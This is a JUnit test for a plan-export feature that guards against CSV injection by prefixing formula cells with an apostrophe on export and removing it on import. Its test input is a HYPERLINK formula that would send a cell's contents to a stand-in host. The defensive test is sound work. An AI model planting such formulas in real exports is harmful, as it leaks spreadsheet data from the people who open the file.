package org.probity.improvement.plans;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The plan's CSV is an export a person opens in a spreadsheet: a cell that a spreadsheet
 * would run as a formula is written with a leading {@code '} (OWASP "CSV injection"), and
 * read back without it, so that an exported plan imports as it was.
 */
class PlanCsvFormulaTests {

	@Test
	void aFormulaCellIsNeutralisedOnTheWayOutAndRestoredOnTheWayIn() {
		String formula = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
		String exported = org.probity.shared.web.TableExport.neutralised(formula);
		assertThat(exported).isEqualTo("'" + formula);
		assertThat(PlanCsv.unneutralised(exported)).isEqualTo(formula);
		assertThat(PlanCsv.unneutralised("'quoted on purpose")).isEqualTo("'quoted on purpose");
		assertThat(PlanCsv.unneutralised("-")).isEqualTo("-");
		assertThat(PlanCsv.unneutralised("'-1 point")).isEqualTo("-1 point");
	}

}
